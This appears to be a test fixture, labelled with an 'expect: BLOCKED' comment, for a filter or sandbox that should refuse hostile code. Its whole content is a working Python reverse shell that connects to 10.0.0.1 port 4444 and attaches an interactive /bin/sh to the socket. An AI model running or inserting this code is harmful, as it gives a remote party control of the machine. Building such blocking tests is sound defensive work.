# expect: BLOCKED
import socket, subprocess
s = socket.create_connection(("10.0.0.1", 4444))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
